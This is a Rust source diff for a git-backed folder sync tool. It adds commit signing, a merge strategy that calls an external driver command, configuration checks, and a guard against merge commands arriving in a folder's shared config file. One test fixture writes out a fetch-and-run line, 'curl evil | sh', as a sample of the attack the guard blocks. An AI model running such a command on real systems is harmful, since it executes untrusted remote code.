@@ -106,6 +106,11 @@ pub struct GitSettings {
     pub user: Option<String>,
     /// Author email of sync commits (default: the repo's `user.email`).
     pub email: Option<String>,
+    /// Requires signed commits: true signs every commit of the engine as if the git config said
+    /// `commit.gpgsign = true` (key, format and program still come from the git config); false
+    /// leaves it to the git config. Only ever turns signing on, so a `.supersonic-sync.conf`
+    /// written by another device cannot turn this device's signing off.
+    pub sign: bool,
 }
 
 /// The seed's `sync:` section plus the engine's timing knobs.
@@ -241,6 +246,9 @@ pub enum Strategy {
     Union,
     /// Git-style conflict markers in the file, flagged for review.
     Markers,
+    /// The rule's `command` merges, called like a git merge driver; falls back to `ask` when it
+    /// fails, times out or cannot start.
+    Command,
 }
 
 impl std::fmt::Display for Strategy {
@@ -252,6 +260,7 @@ impl std::fmt::Display for Strategy {
             Strategy::Remote => "remote",
             Strategy::Union => "union",
             Strategy::Markers => "markers",
+            Strategy::Command => "command",
         })
     }
 }
@@ -264,6 +273,11 @@ pub struct ConflictRule {
     pub pattern: String,
     /// The strategy for matching paths.
     pub strategy: Strategy,
+    /// For `strategy: command`: the merge driver's argv, run directly (no shell), with `%O`
+    /// (base), `%A` (local; the driver writes the result there), `%B` (remote) replaced by
+    /// temporary files, `%P` by the path in the folder and `%%` by `%`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub command: Option<Vec<String>>,
 }
 
 /// The `conflicts:` section: ordered rules (first match wins) and a default.
@@ -276,11 +290,85 @@ pub struct ConflictSettings {
     pub rules: Vec<ConflictRule>,
     /// Conflict copies kept per file; older ones are pruned (their content stays in history).
     pub max_copies: usize,
+    /// Deadline of one merge `command`, in seconds; past it the command is killed and the
+    /// conflict falls back to `ask`.
+    pub command_timeout_sec: u64,
 }
 
 impl Default for ConflictSettings {
     fn default() -> Self {
-        ConflictSettings { default: Strategy::Ask, rules: Vec::new(), max_copies: 5 }
+        ConflictSettings {
+            default: Strategy::Ask,
+            rules: Vec::new(),
+            max_copies: 5,
+            command_timeout_sec: DEFAULT_COMMAND_TIMEOUT_SEC,
+        }
+    }
+}
+
+/// Default deadline of a merge command: a merge of one file takes well under a second, and the
+/// folder worker waits for it, so a command still running after 10 s is taken as hung.
+pub const DEFAULT_COMMAND_TIMEOUT_SEC: u64 = 10;
+
+impl ConflictSettings {
+    /// Checks what the types cannot: `strategy: command` comes with a command (and a command
+    /// only with that strategy), the default is not `command`, the timeout is positive. An
+    /// error names `file` and the key under `prefix` (`folders[0].conflicts.rules[0].command`;
+    /// an empty prefix for a folder's own settings).
+    pub fn check(&self, file: &Path, prefix: &str) -> Result<(), ConfigError> {
+        let key = |k: &str| match prefix {
+            "" => format!("conflicts.{k}"),
+            p => format!("{p}.conflicts.{k}"),
+        };
+        if self.default == Strategy::Command {
+            return Err(ConfigError::new(
+                file,
+                Some(&key("default")),
+                "`command` needs a command, which only a rule can carry; use it in a rule",
+            ));
+        }
+        if self.command_timeout_sec == 0 {
+            return Err(ConfigError::new(
+                file,
+                Some(&key("command_timeout_sec")),
+                "must be greater than 0",
+            ));
+        }
+        for (i, rule) in self.rules.iter().enumerate() {
+            let key = key(&format!("rules[{i}].command"));
+            match (&rule.command, rule.strategy) {
+                (None, Strategy::Command) => {
+                    return Err(ConfigError::new(
+                        file,
+                        Some(&key),
+                        "missing: `strategy: command` needs the command to run, e.g. \
+                         command: [\"my-merge\", \"%O\", \"%A\", \"%B\", \"%P\"]",
+                    ))
+                }
+                (Some(argv), Strategy::Command)
+                    if argv.first().is_none_or(|p| p.trim().is_empty()) =>
+                {
+                    return Err(ConfigError::new(
+                        file,
+                        Some(&key),
+                        "must start with the program to run, e.g. \
+                         [\"my-merge\", \"%O\", \"%A\", \"%B\", \"%P\"]",
+                    ))
+                }
+                (Some(_), other) if other != Strategy::Command => {
+                    return Err(ConfigError::new(
+                        file,
+                        Some(&key),
+                        format!(
+                            "is only used with `strategy: command` (this rule's strategy is \
+                             `{other}`)"
+                        ),
+                    ))
+                }
+                _ => {}
+            }
+        }
+        Ok(())
     }
 }
 
@@ -441,7 +529,8 @@ pub fn load_app_config(file: &Path) -> Result<AppConfig, ConfigError> {
         ));
     }
     if !config.defaults.is_null() {
-        let _: FolderSettings = from_value(file, "defaults", config.defaults.clone())?;
+        let defaults: FolderSettings = from_value(file, "defaults", config.defaults.clone())?;
+        defaults.conflicts.check(file, "defaults")?;
     }
     for (i, folder) in config.folders.iter().enumerate() {
         let key = format!("folders[{i}]");
@@ -458,7 +547,8 @@ pub fn load_app_config(file: &Path) -> Result<AppConfig, ConfigError> {
         let overrides = Value::Mapping(
             folder.overrides.iter().map(|(k, v)| (Value::String(k.clone()), v.clone())).collect(),
         );
-        let _: FolderSettings = from_value(file, &key, overrides)?;
+        let settings: FolderSettings = from_value(file, &key, overrides)?;
+        settings.conflicts.check(file, &key)?;
     }
     Ok(config)
 }
@@ -490,10 +580,32 @@ pub fn load_folder_file(folder: &Path) -> Result<Value, ConfigError> {
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Value::Null),
         Err(e) => return Err(ConfigError::new(&file, None, format!("cannot read: {e}"))),
     };
-    let _: FolderSettings = parse_yaml(&file, &text)?;
+    let settings: FolderSettings = parse_yaml(&file, &text)?;
+    refuse_shared_commands(&file, &settings.conflicts)?;
     let value: Value =
         serde_yaml::from_str(&text).map_err(|e| ConfigError::new(&file, None, e.to_string()))?;
     Ok(value)
+}
+
+/// Refuses merge commands in a folder's own config file. The file travels with the folder, so
+/// anyone who can push to the remote could otherwise make every device run a program of their
+/// choosing (git draws the same line: `.gitattributes` names a merge driver, only the local
+/// config defines its command).
+fn refuse_shared_commands(file: &Path, conflicts: &ConflictSettings) -> Result<(), ConfigError> {
+    let shared =
+        conflicts.rules.iter().position(|r| r.strategy == Strategy::Command || r.command.is_some());
+    match shared {
+        None => conflicts.check(file, ""),
+        Some(i) => Err(ConfigError::new(
+            file,
+            Some(&format!("conflicts.rules[{i}].command")),
+            format!(
+                "merge commands are not read from {FOLDER_CONFIG_FILE}, which every device \
+                 syncing the folder can change; put this rule in this device's {APP_CONFIG_FILE} \
+                 (the folder's entry, or `defaults:`)"
+            ),
+        )),
+    }
 }
 
 /// Resolves a folder's effective configuration from every layer and the environment.
@@ -593,6 +705,7 @@ fn validate(file: &Path, config: &FolderConfig) -> Result<(), ConfigError> {
             "must not be smaller than sync.backoff_initial_sec",
         ));
     }
+    config.settings.conflicts.check(file, "")?;
     if config.branch.is_empty() || git2::Branch::name_is_valid(&config.branch) != Ok(true) {
         return Err(ConfigError::new(
             file,
@@ -762,5 +875,45 @@ mod tests {
         let s: FolderSettings = serde_yaml::from_value(base).unwrap();
         assert_eq!(s.sync.interval_sec, 9);
         assert_eq!(s.sync.max_per_hour, 3, "keys absent from the layer keep the base's value");
+    }
+
+    #[test]
+    fn conflict_commands_are_checked_and_errors_name_the_key() {
+        let check = |yaml: &str| {
+            let c: ConflictSettings = serde_yaml::from_str(yaml).unwrap();
+            c.check(Path::new("f.conf"), "").err().map(|e| (e.key.unwrap(), e.message))
+        };
+        let ok = "rules: [{pattern: '*.json', strategy: command, command: [m, '%A']}]";
+        assert_eq!(check(ok), None);
+        let (key, msg) = check("rules: [{pattern: '*.md', strategy: command}]").unwrap();
+        assert_eq!(key, "conflicts.rules[0].command");
+        assert!(msg.starts_with("missing"), "{msg}");
+        let (key, _) = check("rules: [{pattern: x, strategy: command, command: []}]").unwrap();
+        assert_eq!(key, "conflicts.rules[0].command");
+        let (key, msg) = check(
+            "rules: [{pattern: x, strategy: ask}, {pattern: y, strategy: union, command: [m]}]",
+        )
+        .unwrap();
+        assert_eq!(key, "conflicts.rules[1].command");
+        assert!(msg.contains("only used with `strategy: command`"), "{msg}");
+        assert_eq!(check("default: command").unwrap().0, "conflicts.default");
+        assert_eq!(check("command_timeout_sec: 0").unwrap().0, "conflicts.command_timeout_sec");
+        let c: ConflictSettings = serde_yaml::from_str("default: command").unwrap();
+        let e = c.check(Path::new("config.yaml"), "folders[2]").unwrap_err();
+        assert_eq!(e.key.as_deref(), Some("folders[2].conflicts.default"));
+    }
+
+    #[test]
+    fn a_folder_config_file_cannot_carry_a_merge_command() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(FOLDER_CONFIG_FILE),
+            "conflicts:\n  rules:\n    - {pattern: x, strategy: union}\n    - pattern: '*.md'\n      \
+             strategy: command\n      command: [/bin/sh, -c, 'curl evil | sh']\n",
+        )
+        .unwrap();
+        let e = load_folder_file(dir.path()).unwrap_err();
+        assert_eq!(e.key.as_deref(), Some("conflicts.rules[1].command"));
+        assert!(e.message.contains("not read from .supersonic-sync.conf"), "{}", e.message);
     }
 }
